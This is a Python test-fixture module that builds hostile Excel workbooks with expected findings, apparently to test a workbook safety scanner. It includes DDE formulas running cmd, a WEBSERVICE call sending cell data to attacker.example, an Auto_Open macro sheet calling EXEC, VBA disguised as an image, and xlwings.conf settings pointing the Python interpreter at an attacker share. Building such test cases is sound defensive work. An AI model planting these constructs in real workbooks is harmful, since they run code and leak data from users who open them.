"""Hostile workbooks for the safety tests, built here from the template's zip package with
plain zipfile + XML text (nothing here is produced by the code under test), or with
openpyxl / XlsxWriter where those write the construct themselves."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

ROOT = Path(__file__).parent.parent
TEMPLATE = ROOT / "workbooks" / "alvh_template.xlsx"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
CT_WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
ATTACKER = r"\\attacker.example\share"


def vba_project_bin() -> bytes:
    """A real VBA project: the one inside xlwings' own quickstart.xlsm."""
    import xlwings

    with zipfile.ZipFile(Path(xlwings.__file__).with_name("quickstart.xlsm")) as z:
        return z.read("xl/vbaProject.bin")


class Package:
    """The template's parts in memory, edited as text, saved as a new zip."""

    def __init__(self, src: Path = TEMPLATE):
        with zipfile.ZipFile(src) as z:
            self.parts = {i.filename: z.read(i.filename) for i in z.infolist()}

    def text(self, part: str) -> str:
        return self.parts[part].decode("utf-8")

    def set(self, part: str, text: str | bytes, content_type: str | None = None) -> None:
        self.parts[part] = text.encode("utf-8") if isinstance(text, str) else text
        if content_type:
            ct = self.text("[Content_Types].xml")
            ct = ct.replace("</Types>", f'<Override PartName="/{part}" '
                                        f'ContentType="{content_type}"/></Types>')
            self.parts["[Content_Types].xml"] = ct.encode()

    def edit(self, part: str, old: str, new: str, count: int = 1) -> None:
        text = self.text(part)
        assert old in text, (part, old)
        self.parts[part] = text.replace(old, new, count).encode("utf-8")

    def sheet_part(self, name: str) -> str:
        wb = self.text("xl/workbook.xml")
        tag = re.search(rf'<sheet [^>]*name="{re.escape(name)}"[^>]*>', wb).group(0)
        rid = re.search(r'r:id="([^"]+)"', tag).group(1)
        rels = self.text("xl/_rels/workbook.xml.rels")
        rel = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*>', rels).group(0)
        target = re.search(r'Target="([^"]*)"', rel).group(1)
        return target.lstrip("/") if target.startswith("/") else "xl/" + target

    def add_rel(self, source: str, rel_type: str, target: str, external: bool = False) -> str:
        folder, name = source.rsplit("/", 1) if "/" in source else ("", source)
        rels_part = f"{folder}/_rels/{name}.rels" if folder else f"_rels/{name}.rels"
        text = (self.text(rels_part) if rels_part in self.parts else
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                "</Relationships>")
        n = len(re.findall(r"<Relationship ", text)) + 100
        mode = ' TargetMode="External"' if external else ""
        target = target.replace("&", "&amp;").replace('"', "&quot;")
        text = text.replace("</Relationships>", f'<Relationship Id="rId{n}" Type="{rel_type}" '
                                                f'Target="{target}"{mode}/></Relationships>')
        self.parts[rels_part] = text.encode("utf-8")
        return f"rId{n}"

    def add_cells(self, sheet: str, cells: list[tuple[str, str]], row: int = 300) -> None:
        """Append a row of cells (raw <c> XML bodies keyed by column letter) to a sheet."""
        part = self.sheet_part(sheet)
        body = "".join(f'<c r="{col}{row}"{body}</c>' for col, body in cells)
        self.edit(part, "</sheetData>", f'<row r="{row}">{body}</row></sheetData>')

    def save(self, path: Path) -> Path:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in self.parts.items():
                z.writestr(name, data)
        return path


def _f(formula: str, cached: str = "0", t: str = "") -> str:
    """A cell body: a formula (XML-escaped) with its cached value."""
    esc = formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'{t}><f>{esc}</f><v>{cached}</v>'


# --------------------------------------------------------------------------- one per kind

def vba_xlsxwriter(tmp: Path) -> Path:
    """An .xlsm written by XlsxWriter with a real vbaProject.bin."""
    import xlsxwriter

    (tmp / "vbaProject.bin").write_bytes(vba_project_bin())
    path = tmp / "macros.xlsm"
    wb = xlsxwriter.Workbook(str(path))
    wb.add_worksheet("Positions").write("A1", "Layer")
    wb.add_vba_project(str(tmp / "vbaProject.bin"))
    wb.close()
    return path


def vba_renamed(tmp: Path) -> Path:
    """The template, saved as .xlsx, carrying a VBA project part nobody references."""
    pkg = Package()
    pkg.set("xl/vbaProject.bin", vba_project_bin())
    return pkg.save(tmp / "renamed.xlsx")


def vba_by_type(tmp: Path) -> Path:
    """A VBA project hidden under an image name, found by content type and relationship."""
    pkg = Package()
    pkg.set("xl/media/image9.png", vba_project_bin(), "application/vnd.ms-office.vbaProject")
    pkg.add_rel("xl/workbook.xml", f"{MS_REL}/vbaProject", "media/image9.png")
    return pkg.save(tmp / "hidden_vba.xlsx")


def _external_link(pkg: Package, target: str, body: str = "") -> None:
    inner = body or '<externalBook r:id="rId1"/>'
    pkg.set("xl/externalLinks/externalLink1.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{REL}">{inner}</externalLink>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    path_rel = (f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" Target="{target}" '
                'TargetMode="External"/>' if not body else "")
    pkg.set("xl/externalLinks/_rels/externalLink1.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{path_rel}</Relationships>")
    rid = pkg.add_rel("xl/workbook.xml", f"{REL}/externalLink", "externalLinks/externalLink1.xml")
    _ensure_r_namespace(pkg, "xl/workbook.xml", "workbook")
    pkg.edit("xl/workbook.xml", "<definedNames>",
             f'<externalReferences><externalReference r:id="{rid}"/></externalReferences>'
             "<definedNames>")


def external_link(tmp: Path) -> Path:
    """A link part to a workbook on someone else's share, a cell and a name using it."""
    pkg = Package()
    _external_link(pkg, f"{ATTACKER}\\prices.xlsx")
    pkg.add_cells("Start", [("Z", _f("[1]Sheet1!$A$1", "42"))])
    pkg.edit("xl/workbook.xml", "<definedNames>",
             '<definedNames><definedName name="EXT_PRICE">[1]Sheet1!$B$2</definedName>')
    return pkg.save(tmp / "external.xlsx")


def unc_formula(tmp: Path) -> Path:
    pkg = Package()
    pkg.add_cells("Start", [("Y", _f(f"SUM('{ATTACKER}\\[book.xlsx]Sheet1'!A1)", "7"))])
    return pkg.save(tmp / "unc.xlsx")


def dde(tmp: Path) -> Path:
    """DDE formulas as they are typed into cells, and a DDE link part."""
    pkg = Package()
    pkg.add_cells("Dashboard", [("X", _f("cmd|' /C calc'!A0", "0")),
                                ("Y", _f('DDE("cmd","/c calc","x")', "0")),
                                ("Z", _f('_xlfn.DDEAUTO("cmd","/c notepad")', "0"))])
    _external_link(pkg, "", body='<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')
    return pkg.save(tmp / "dde.xlsx")


def web_call(tmp: Path) -> Path:
    pkg = Package()
    pkg.add_cells("Start", [("Z", _f('_xlfn.WEBSERVICE("http://attacker.example/?"&amp;A1)',
                                     "ok", ' t="str"'))])
    return pkg.save(tmp / "webservice.xlsx")


def embedded(tmp: Path) -> Path:
    """An embedded OLE package and an ActiveX control on the Dashboard."""
    pkg = Package()
    sheet = pkg.sheet_part("Dashboard")
    pkg.set("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
            "application/vnd.openxmlformats-officedocument.oleObject")
    ole = pkg.add_rel(sheet, f"{REL}/oleObject", "../embeddings/oleObject1.bin")
    pkg.set("xl/activeX/activeX1.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<ax:ocx '
            'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStream"/>',
            "application/vnd.ms-office.activeX+xml")
    ax = pkg.add_rel(sheet, f"{REL}/control", "../activeX/activeX1.xml")
    pkg.edit(sheet, "</worksheet>",
             f'<oleObjects><oleObject progId="Package" shapeId="1025" r:id="{ole}"/>'
             f'</oleObjects><controls><control shapeId="1026" r:id="{ax}" '
             'name="CommandButton1"/></controls></worksheet>')
    _ensure_r_namespace(pkg, sheet)
    return pkg.save(tmp / "embedded.xlsx")


def _ensure_r_namespace(pkg: Package, part: str, root: str = "worksheet") -> None:
    """Declare the relationships prefix r: on the root element (openpyxl declares it on
    each element that uses it)."""
    start = re.search(rf"<{root}\b[^>]*>", pkg.text(part)).group(0)
    if "xmlns:r=" not in start:
        pkg.edit(part, f"<{root} ", f'<{root} xmlns:r="{REL}" ')


def connection(tmp: Path) -> Path:
    """A web query connection and a query table on the Market sheet."""
    pkg = Package()
    pkg.set("xl/connections.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<connection id="1" name="Prices feed" type="4" refreshedVersion="6">'
            '<webPr url="http://attacker.example/prices.html"/></connection></connections>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    pkg.add_rel("xl/workbook.xml", f"{REL}/connections", "connections.xml")
    pkg.set("xl/queryTables/queryTable1.xml", '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'name="Prices feed" connectionId="1" autoFormatId="16" applyNumberFormats="0" '
            'applyBorderFormats="0" applyFontFormats="0" applyPatternFormats="0" '
            'applyAlignmentFormats="0" applyWidthHeightFormats="0"/>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml")
    pkg.add_rel(pkg.sheet_part("Market"), f"{REL}/queryTable", "../queryTables/queryTable1.xml")
    return pkg.save(tmp / "connection.xlsx")


def file_hyperlinks(tmp: Path) -> Path:
    """Hyperlinks to a local program and a share (written by openpyxl), one web link (fine),
    and a HYPERLINK() formula to a file."""
    import openpyxl

    wb = openpyxl.load_workbook(TEMPLATE)
    ws = wb["Start"]
    ws["D3"].hyperlink = "file:///C:/Windows/System32/calc.exe"
    ws["D4"].hyperlink = f"{ATTACKER}\\run.exe"
    ws["D5"].hyperlink = "https://www.cboe.com/tradable_products/vix/"
    ws["D6"] = '=HYPERLINK("C:\\Users\\Public\\evil.exe","open me")'
    path = tmp / "links.xlsx"
    wb.save(path)
    return path


def very_hidden(tmp: Path) -> Path:
    import openpyxl

    wb = openpyxl.load_workbook(TEMPLATE)
    secret = wb.create_sheet("Secret")
    secret["A1"] = "hidden text"
    secret.sheet_state = "veryHidden"
    path = tmp / "veryhidden.xlsx"
    wb.save(path)
    return path


CONF_ATTACK = [("Interpreter_Win", f"{ATTACKER}\\python.exe"),
               ("PYTHONPATH", f"{ATTACKER}\\lib"),
               ("Conda Path", f"{ATTACKER}\\conda"),
               ("Conda Env", "evil"),
               ("UDF Modules", "alvh_xl.udfs;evil_udfs")]


def xlwings_conf_shared(tmp: Path) -> Path:
    """xlwings.conf settings written by openpyxl (shared strings)."""
    import openpyxl

    wb = openpyxl.load_workbook(TEMPLATE)
    ws = wb["xlwings.conf"]
    for i, (key, value) in enumerate(CONF_ATTACK, start=1):
        ws.cell(i, 1).value, ws.cell(i, 2).value = key, value
    path = tmp / "conf_shared.xlsx"
    wb.save(path)
    return path


def xlwings_conf_inline(tmp: Path) -> Path:
    """xlwings.conf with inline strings (as XlsxWriter/Excel may write), Interpreter_Mac."""
    pkg = Package()
    part = pkg.sheet_part("xlwings.conf")
    text = pkg.text(part)
    row = ('<row r="2"><c r="A2" t="inlineStr"><is><t>Interpreter_Mac</t></is></c>'
           '<c r="B2" t="inlineStr"><is><t>/Volumes/share/python3</t></is></c></row>')
    text = re.sub(r"</row>\s*</sheetData>", f"</row>{row}</sheetData>", text, count=1)
    pkg.set(part, text)
    return pkg.save(tmp / "conf_inline.xlsx")


def macro_sheet(tmp: Path) -> Path:
    """An Excel 4.0 macro sheet with an Auto_Open name."""
    pkg = Package()
    pkg.set("xl/macrosheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
            '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>',
            "application/vnd.ms-excel.macrosheet+xml")
    rid = pkg.add_rel("xl/workbook.xml", f"{MS_REL}/xlMacrosheet", "macrosheets/sheet1.xml")
    pkg.edit("xl/workbook.xml", "</sheets>",
             f'<sheet name="Macro1" sheetId="99" state="hidden" r:id="{rid}"/></sheets>')
    pkg.edit("xl/workbook.xml", "<definedNames>",
             '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>')
    return pkg.save(tmp / "macrosheet.xlsx")


def control_macros(tmp: Path) -> Path:
    """A form control and a shape that run macros from another workbook."""
    pkg = Package()
    pkg.set("xl/ctrlProps/ctrlProp1.xml", '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
            f"objectType=\"Button\" macro=\"'{ATTACKER}\\m.xlsm'!Run\"/>",
            "application/vnd.ms-excel.controlproperties+xml")
    pkg.add_rel(pkg.sheet_part("Dashboard"), f"{REL}/ctrlProp", "../ctrlProps/ctrlProp1.xml")
    drawing = next(p for p in pkg.parts if p.startswith("xl/drawings/drawing")
                   and p.endswith(".xml"))
    pkg.edit(drawing, 'macro=""', 'macro="[1]!Evil"')
    return pkg.save(tmp / "controls.xlsx")


def chart_external(tmp: Path) -> Path:
    """A chart series reading another workbook (with its cached points)."""
    pkg = Package()
    chart = next(p for p in sorted(pkg.parts) if p.startswith("xl/charts/chart"))
    text = pkg.text(chart)
    ref = re.search(r"<c:numRef><c:f>([^<]*)</c:f>", text)
    pkg.edit(chart, ref.group(0), "<c:numRef><c:f>[1]Sheet1!$A$1:$A$3</c:f>")
    return pkg.save(tmp / "chart.xlsx")


# kind → (builder, [(finding kind, where, reason piece)])
CASES = {
    "vba (XlsxWriter .xlsm)": (vba_xlsxwriter, [("vba", "xl/vbaProject.bin", "VBA")]),
    "vba (renamed .xlsx)": (vba_renamed, [("vba", "xl/vbaProject.bin", "VBA")]),
    "vba (by content type)": (vba_by_type, [("vba", "xl/media/image9.png", "VBA")]),
    "external link": (external_link, [
        ("external-link", "xl/externalLinks/externalLink1.xml",
         "link to another workbook '\\\\attacker.example"),
        ("external-link", "Start!Z300", "external workbook [1]"),
        ("external-link", "xl/workbook.xml (name EXT_PRICE)", "external workbook [1]")]),
    "UNC path in a formula": (unc_formula, [("external-link", "Start!Y300", "network path")]),
    "DDE": (dde, [("dde", "Dashboard!X300", "DDE formula (runs cmd"),
                  ("dde", "Dashboard!Y300", "calls DDE()"),
                  ("dde", "Dashboard!Z300", "calls DDEAUTO()"),
                  ("dde", "xl/externalLinks/externalLink1.xml", "DDE link to cmd|/c calc")]),
    "WEBSERVICE": (web_call, [("external-call", "Start!Z300", "calls WEBSERVICE()")]),
    "embedded objects": (embedded, [
        ("embedded", "xl/embeddings/oleObject1.bin", "embedded"),
        ("embedded", "xl/activeX/activeX1.xml", "ActiveX"),
        ("embedded", "Dashboard (shape 1025)", "OLE object 'Package'"),
        ("embedded", "Dashboard (shape 1026)", "ActiveX control 'CommandButton1'")]),
    "connections": (connection, [
        ("connection", "xl/connections.xml (connection 'Prices feed')",
         "fetching 'http://attacker.example/prices.html'"),
        ("connection", "xl/queryTables/queryTable1.xml", "query table 'Prices feed'")]),
    "file hyperlinks": (file_hyperlinks, [
        ("file-link", "Start!D3", "hyperlink to 'file:///C:/Windows/System32/calc.exe'"),
        ("file-link", "Start!D4", "hyperlink to '\\\\attacker.example"),
        ("file-link", "Start!D6", "HYPERLINK to a local file")]),
    "very hidden sheet": (very_hidden, [("very-hidden", "xl/workbook.xml (sheet 'Secret')",
                                         "very hidden")]),
    "xlwings.conf (shared strings)": (xlwings_conf_shared, [
        ("xlwings-conf", "xlwings.conf!A1", "Interpreter_Win chooses the Python interpreter"),
        ("xlwings-conf", "xlwings.conf!A2", "PYTHONPATH adds to the Python path"),
        ("xlwings-conf", "xlwings.conf!A3", "Conda Path chooses a conda installation"),
        ("xlwings-conf", "xlwings.conf!A4", "Conda Env chooses a conda environment: 'evil'"),
        ("xlwings-conf", "xlwings.conf!A5", "UDF Modules imports 'alvh_xl.udfs;evil_udfs'")]),
    "xlwings.conf (inline strings)": (xlwings_conf_inline, [
        ("xlwings-conf", "xlwings.conf!A2",
         "Interpreter_Mac chooses the Python interpreter: '/Volumes/share/python3'")]),
    "macro sheet": (macro_sheet, [
        ("macro-sheet", "Macro1: ", "Excel 4.0 macro sheet"),
        ("macro-sheet", "xl/workbook.xml (sheet 'Macro1')", "Excel 4.0 macro sheet"),
        ("macro-sheet", "xl/workbook.xml (name _xlnm.Auto_Open)", "runs a macro"),
        ("external-call", "Macro1!A1", "calls EXEC()")]),
    "macros on controls and shapes": (control_macros, [
        ("vba", "xl/ctrlProps/ctrlProp1.xml", "form control runs macro"),
        ("vba", "xl/drawings/drawing", "shape runs macro '[1]!Evil'")]),
    "chart from another workbook": (chart_external, [
        ("external-link", "xl/charts/chart1.xml (series)", "external workbook [1]")]),
}
